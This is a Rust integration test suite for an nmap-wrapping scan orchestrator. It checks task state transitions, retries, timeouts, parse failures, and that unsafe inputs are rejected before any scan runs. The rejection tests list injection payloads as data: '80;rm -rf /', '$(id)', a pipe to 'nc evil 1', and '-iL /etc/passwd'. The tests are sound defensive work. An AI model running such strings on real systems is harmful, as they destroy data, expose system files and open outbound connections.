//! Full task lifecycle integration tests.
//!
//! Drives scans from registration to a terminal state through the
//! dispatcher and checks what ends up in storage.

use crate::common::{WAIT, scanme_success, wait_for};
use async_trait::async_trait;
use scanward::testing::ScriptedRunner;
use scanward::{
    Dispatcher, Event, EventBus, EventHandler, FailureKind, InMemoryStorage, Orchestrator,
    Registry, RegistryError, RetryPolicy, RunOutcome, TaskState,
};
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::Mutex;

/// Records every state transition in order.
#[derive(Default)]
struct TransitionLog {
    transitions: Mutex<Vec<(TaskState, TaskState)>>,
}

#[async_trait]
impl EventHandler for TransitionLog {
    async fn handle(&self, event: &Event) {
        if let Event::StateChanged { from, to, .. } = event {
            self.transitions.lock().await.push((*from, *to));
        }
    }
}

fn fast_retry() -> RetryPolicy {
    RetryPolicy::exponential(3, Duration::from_millis(10), Duration::from_millis(40))
}

fn args(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| s.to_string()).collect()
}

async fn setup(
    runner: Arc<ScriptedRunner>,
    event_bus: EventBus,
) -> (Arc<InMemoryStorage>, Dispatcher<InMemoryStorage>) {
    let storage = Arc::new(InMemoryStorage::new());
    let (handle, _task) = Orchestrator::with_storage(Arc::clone(&storage), runner)
        .with_event_bus(event_bus)
        .with_retry_policy(fast_retry())
        .start()
        .await;
    let dispatcher = Dispatcher::new(Registry::new(Arc::clone(&storage)), handle)
        .with_poll_interval(Duration::from_millis(10))
        .with_wait_timeout(WAIT);
    (storage, dispatcher)
}

/// Test: A scan of scanme.nmap.org walks every stage and lists ports 22 and 80.
#[tokio::test]
async fn test_scan_progresses_through_every_stage() {
    let log = Arc::new(TransitionLog::default());
    let bus = EventBus::new();
    bus.register(log.clone()).await;
    let runner = Arc::new(ScriptedRunner::new([scanme_success()]));
    let (_storage, dispatcher) = setup(Arc::clone(&runner), bus).await;

    let record = dispatcher
        .run_and_wait(
            "scanme.nmap.org",
            args(&["-sT", "-sV", "--top-ports", "100"]),
            None,
        )
        .await
        .unwrap();
    assert_eq!(record.state(), TaskState::Completed);

    dispatcher.orchestrator().shutdown().await.unwrap();
    assert_eq!(
        *log.transitions.lock().await,
        vec![
            (TaskState::Queued, TaskState::Validating),
            (TaskState::Validating, TaskState::Running),
            (TaskState::Running, TaskState::Parsing),
            (TaskState::Parsing, TaskState::Completed),
        ]
    );

    let result = dispatcher.fetch(record.id()).await.unwrap();
    let open: Vec<u16> = result.open_ports().map(|p| p.port).collect();
    assert_eq!(open, vec![22, 80]);

    let requests = runner.requests().await;
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].target, "scanme.nmap.org");
    assert_eq!(requests[0].arguments, args(&["-sT", "-sV", "--top-ports", "100"]));
}

/// Test: The result is available exactly when the status is COMPLETED.
#[tokio::test]
async fn test_result_available_only_when_completed() {
    let runner = Arc::new(
        ScriptedRunner::new([scanme_success()]).with_delay(Duration::from_millis(100)),
    );
    let (_storage, dispatcher) = setup(runner, EventBus::new()).await;

    let id = dispatcher
        .start("scanme.nmap.org", args(&["-sT"]), None)
        .await
        .unwrap();

    loop {
        let state = dispatcher.poll(&id).await.unwrap();
        let result = dispatcher.fetch(&id).await;
        if state == TaskState::Completed {
            assert!(result.is_ok());
            break;
        }
        match result {
            Err(scanward::DispatchError::Registry(RegistryError::NotAvailable { .. })) => {}
            // The task may finish between the two reads.
            Ok(_) => assert_eq!(dispatcher.poll(&id).await.unwrap(), TaskState::Completed),
            Err(e) => panic!("unexpected error: {}", e),
        }
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
}

/// Test: A flag that reads local files fails validation and never runs.
#[tokio::test]
async fn test_input_list_flag_rejected_before_running() {
    let log = Arc::new(TransitionLog::default());
    let bus = EventBus::new();
    bus.register(log.clone()).await;
    let runner = Arc::new(ScriptedRunner::new([scanme_success()]));
    let (_storage, dispatcher) = setup(Arc::clone(&runner), bus).await;

    let record = dispatcher
        .run_and_wait("host", args(&["-iL", "/etc/passwd"]), None)
        .await
        .unwrap();

    assert_eq!(record.state(), TaskState::Failed);
    assert_eq!(record.failure().unwrap().kind, FailureKind::ValidationRejected);
    assert!(record.attempts().is_empty());
    assert_eq!(runner.invocations(), 0);

    dispatcher.orchestrator().shutdown().await.unwrap();
    let transitions = log.transitions.lock().await;
    assert!(!transitions.iter().any(|(_, to)| *to == TaskState::Running));
}

/// Test: Metacharacters and file-touching flags are rejected without running.
#[tokio::test]
async fn test_unsafe_input_rejected() {
    let runner = Arc::new(ScriptedRunner::new([]));
    let (_storage, dispatcher) = setup(Arc::clone(&runner), EventBus::new()).await;

    for (target, arguments) in [
        ("10.0.0.1", args(&["-p", "80;rm -rf /"])),
        ("10.0.0.1", args(&["-sT", "$(id)"])),
        ("10.0.0.1 | nc evil 1", args(&["-sT"])),
        ("10.0.0.1", args(&["-oN/tmp/out"])),
        ("10.0.0.1", args(&["--script-args=user=root"])),
    ] {
        let record = dispatcher.run_and_wait(target, arguments, None).await.unwrap();
        assert_eq!(record.state(), TaskState::Failed);
        assert_eq!(record.failure().unwrap().kind, FailureKind::ValidationRejected);
    }
    assert_eq!(runner.invocations(), 0);
}

/// Test: A task that times out on every attempt fails after exactly three.
#[tokio::test]
async fn test_repeated_timeouts_fail_after_three_attempts() {
    let timeouts = (0..5).map(|_| RunOutcome::Timeout(Duration::from_secs(14_400)));
    let runner = Arc::new(ScriptedRunner::new(timeouts));
    let (_storage, dispatcher) = setup(Arc::clone(&runner), EventBus::new()).await;

    let record = dispatcher
        .run_and_wait("10.0.0.0/24", args(&["-sT"]), None)
        .await
        .unwrap();

    assert_eq!(record.state(), TaskState::Failed);
    assert_eq!(record.attempts().len(), 3);
    assert_eq!(runner.invocations(), 3);
    let numbers: Vec<u32> = record.attempts().iter().map(|a| a.number).collect();
    assert_eq!(numbers, vec![1, 2, 3]);
    assert_eq!(record.failure().unwrap().kind, FailureKind::ExecutionTimeout);
    assert!(record.result().is_none());
}

/// Test: A privilege failure keeps the scanner's stderr as diagnostics.
#[tokio::test]
async fn test_process_error_preserves_stderr() {
    let denied = || RunOutcome::ProcessError {
        exit_code: Some(1),
        stderr: "You requested a scan type which requires root privileges.\nQUITTING!".into(),
    };
    let runner = Arc::new(ScriptedRunner::new([denied(), denied(), denied()]));
    let (_storage, dispatcher) = setup(runner, EventBus::new()).await;

    let record = dispatcher
        .run_and_wait("10.0.0.1", args(&["-sS"]), None)
        .await
        .unwrap();

    let failure = record.failure().unwrap();
    assert_eq!(failure.kind, FailureKind::ProcessError);
    assert!(failure.message.contains("exited with code 1"));
    assert!(failure.diagnostics.as_deref().unwrap().contains("QUITTING!"));
}

/// Test: A crash followed by a success completes on the second attempt.
#[tokio::test]
async fn test_crash_then_success_completes() {
    let runner = Arc::new(ScriptedRunner::new([
        RunOutcome::Crash("terminated by signal 9".into()),
        scanme_success(),
    ]));
    let (_storage, dispatcher) = setup(runner, EventBus::new()).await;

    let record = dispatcher
        .run_and_wait("scanme.nmap.org", args(&["-sT"]), None)
        .await
        .unwrap();

    assert_eq!(record.state(), TaskState::Completed);
    assert_eq!(record.attempts().len(), 2);
    assert!(!record.attempts()[0].outcome.as_ref().unwrap().is_success());
    assert!(record.attempts()[1].outcome.as_ref().unwrap().is_success());
}

/// Test: Unparseable output fails as a parse error without another attempt.
#[tokio::test]
async fn test_garbage_output_is_parse_error() {
    let runner = Arc::new(ScriptedRunner::new([RunOutcome::Success {
        stdout: "Starting Nmap 7.94 ( https://nmap.org )\nNote: Host seems down.".into(),
        stderr: String::new(),
    }]));
    let (_storage, dispatcher) = setup(Arc::clone(&runner), EventBus::new()).await;

    let record = dispatcher
        .run_and_wait("10.0.0.1", args(&["-sT"]), None)
        .await
        .unwrap();

    assert_eq!(record.state(), TaskState::Failed);
    let failure = record.failure().unwrap();
    assert_eq!(failure.kind, FailureKind::ParseError);
    assert!(failure.diagnostics.as_deref().unwrap().starts_with("Starting Nmap"));
    assert_eq!(runner.invocations(), 1);
}

/// Test: Two starts are listed in creation order.
#[tokio::test]
async fn test_list_returns_scans_in_creation_order() {
    let runner = Arc::new(ScriptedRunner::new([scanme_success(), scanme_success()]));
    let (storage, dispatcher) = setup(runner, EventBus::new()).await;

    let first = dispatcher
        .start("scanme.nmap.org", args(&["-sT"]), Some("first".into()))
        .await
        .unwrap();
    let second = dispatcher
        .start("scanme.nmap.org", args(&["-sT"]), Some("second".into()))
        .await
        .unwrap();

    let listed = dispatcher.list().await.unwrap();
    let ids: Vec<_> = listed.iter().map(|s| s.id.clone()).collect();
    assert_eq!(ids, vec![first.clone(), second.clone()]);
    assert_eq!(listed[0].label, "first");

    wait_for(storage.as_ref(), &first, TaskState::Completed).await;
    wait_for(storage.as_ref(), &second, TaskState::Completed).await;
}

/// Test: The production runner drives a scanner executable end to end.
#[cfg(unix)]
#[tokio::test]
async fn test_command_runner_with_fake_scanner() {
    use scanward::CommandRunner;
    use scanward::testing::fixtures::SCANME_XML;
    use std::os::unix::fs::PermissionsExt;

    let dir = tempfile::tempdir().unwrap();
    let xml_path = dir.path().join("scan.xml");
    std::fs::write(&xml_path, SCANME_XML).unwrap();

    // Prints the captured scan when called as `<args> -oX - <target>`.
    let script_path = dir.path().join("fake-nmap");
    let script = format!(
        "#!/bin/sh\nfor last; do :; done\n[ \"$last\" = \"scanme.nmap.org\" ] || exit 2\ncat '{}'\n",
        xml_path.display()
    );
    std::fs::write(&script_path, script).unwrap();
    std::fs::set_permissions(&script_path, std::fs::Permissions::from_mode(0o755)).unwrap();

    let runner = CommandRunner::builder(script_path.to_string_lossy().into_owned())
        .heartbeat_interval(Duration::from_millis(50))
        .build();
    let storage = Arc::new(InMemoryStorage::new());
    let (handle, _task) = Orchestrator::with_storage(Arc::clone(&storage), Arc::new(runner))
        .start()
        .await;
    let dispatcher = Dispatcher::new(Registry::new(storage), handle)
        .with_poll_interval(Duration::from_millis(10))
        .with_wait_timeout(WAIT);

    let record = dispatcher
        .run_and_wait("scanme.nmap.org", args(&["-sT", "--top-ports", "100"]), None)
        .await
        .unwrap();

    assert_eq!(record.state(), TaskState::Completed, "failure: {:?}", record.failure());
    assert!(record.result().unwrap().find_port(22).is_some());
}
